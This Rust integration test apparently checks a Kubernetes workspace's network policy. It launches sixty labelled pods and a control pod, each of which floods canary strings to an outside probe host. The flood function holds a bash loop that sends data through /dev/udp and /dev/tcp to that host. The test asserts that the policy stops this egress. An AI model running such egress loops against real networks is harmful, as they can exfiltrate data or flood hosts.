//! Red team, A12: pods whose first instruction sends.

use std::{
    net::IpAddr,
    time::{Duration, SystemTime},
};

use anyhow::{Result, ensure};
use serde_json::{Value, json};
use ws_tests::{
    audit::Audit,
    lab::Lab,
    namespace::with_namespace,
    pod::{bare_pod, changed},
    probe::{INTERNET, canary},
    project::Project,
    wait::{PATIENCE, eventually},
    ws::Ws,
};

const PODS: usize = 60;
/// All of them share two processors.
const LIMIT: Duration = Duration::from_mins(4);

/// Sends what a canary says for three seconds, and tells how often. Not each time by TCP, where nobody answers and each waits.
fn flood(canary: &str) -> String {
    format!(
        "sent=0; end=$((SECONDS+3)); while [ $SECONDS -lt $end ]; do echo {canary} > /dev/udp/{INTERNET}/53; \
             if [ $((sent % 8)) = 0 ]; then (echo {canary} > /dev/tcp/{INTERNET}/80) & fi; \
             sent=$((sent+1)); done 2>/dev/null; \
         echo $sent > /dev/termination-log; wait"
    )
}

/// A pod that floods, and then waits for nobody long; sixty of them take some time to begin. It is not the operator's, but with a class
/// it has the labels by which that one's policy selects it.
fn pod(name: &str, image: &str, class: Option<&str>, canary: &str) -> Result<Value> {
    let labels = match class {
        Some(class) => {
            json!({"flood": "yes", (ws_api::MANAGED_BY_LABEL): ws_api::MANAGED_BY, (ws_api::CLASS_LABEL): class})
        }
        None => json!({"flood": "yes"}),
    };
    let changes = [
        ("/metadata/labels", labels),
        ("/spec/restartPolicy", "Never".into()),
        ("/spec/containers/0/resources", json!({"limits": {"cpu": "50m"}})),
    ];
    changed(bare_pod(name, image, &["timeout", "30", "bash", "-c", &flood(canary)]), &changes)
}

/// How often each pod of a class says that it sent, once all are at their end.
async fn sent(lab: &Lab, namespace: &str) -> Result<Vec<u64>> {
    let selector = format!("flood=yes,{}", ws_api::CLASS_LABEL);
    let said =
        "jsonpath={range .items[*]}{.status.containerStatuses[0].state.terminated.message}{\"|\"}{end}";
    let get = ["-n", namespace, "get", "pods", "-l", &selector, "-o", said];
    eventually(LIMIT, "the end of all floods", async || {
        let said = lab.kubectl(&get).await?.ok()?.stdout;
        let said: Vec<&str> = said.trim_end_matches('|').split('|').map(str::trim).collect();
        ensure!(said.iter().all(|sent| !sent.is_empty()), "{said:?}");
        Ok::<_, anyhow::Error>(Some(said.iter().map(|sent| sent.parse::<u64>()).collect::<Result<_, _>>()?))
    })
    .await
}

#[tokio::test]
#[ignore = "needs the lab"]
async fn a12_pods_that_send_from_their_first_instruction_send_nothing() -> Result<()> {
    with_namespace(async |lab, namespace| {
        let (ws, caught, control) = (Ws::new(lab, namespace)?, canary()?, canary()?);
        let audit = Audit::of(lab, namespace, "policy");
        // The session that makes the class's policy be there.
        ws.up("policy", Project::empty()?.path()).await?;
        let (image, began) = (lab.workspace_image().await?, SystemTime::now());
        let names = (0..PODS).map(|number| format!("flood-{number}"));
        let mut pods: Vec<Value> =
            names.map(|name| pod(&name, &image, Some("default"), &caught)).collect::<Result<_>>()?;
        pods.push(pod("control", &image, None, &control)?);
        // All at once, so that they start beside each other.
        let list = json!({"apiVersion": "v1", "kind": "List", "items": pods});
        lab.kubectl_with(&["-n", namespace, "create", "-f", "-"], &list.to_string()).await?.ok()?;
        eventually(LIMIT, "the control's flood in the sink", async || {
            anyhow::Ok(lab.sunk()?.contains(&control).then_some(()))
        })
        .await?;
        // One that never ran, or never sent, would prove nothing.
        let sent = sent(lab, namespace).await?;
        ensure!(sent.len() == PODS && sent.iter().all(|times| *times > 0), "{sent:?}");
        ensure!(!lab.has_sunk(&caught)?, "a pod of the class got something through");
        let selector = format!("flood=yes,{}", ws_api::CLASS_LABEL);
        let senders = lab.addresses_of(namespace, &["-l", &selector]).await?;
        ensure!(senders.len() == PODS, "{senders:?}");
        let arrived = lab.arrivals(began, |sender| senders.contains(&sender))?;
        ensure!(arrived.is_empty(), "of pods of the class arrived {arrived:?}");
        // Nor did they come to a gateway, which knows them by their addresses alone: they have no workspace.
        audit.is_of_one_request(&ws).await?;
        let sources = audit.lines().await?;
        let sources = sources.iter().filter_map(|line| line["source"].as_str()?.parse().ok());
        let decided: Vec<IpAddr> = sources.filter(|source| senders.contains(source)).collect();
        ensure!(decided.is_empty(), "decided on {decided:?}");
        let own = lab.addresses_of(namespace, &["--field-selector=metadata.name=control"]).await?;
        eventually(PATIENCE, "the control's connections, by its address", async || {
            anyhow::Ok((!lab.arrivals(began, |sender| own.contains(&sender))?.is_empty()).then_some(()))
        })
        .await
    })
    .await
}
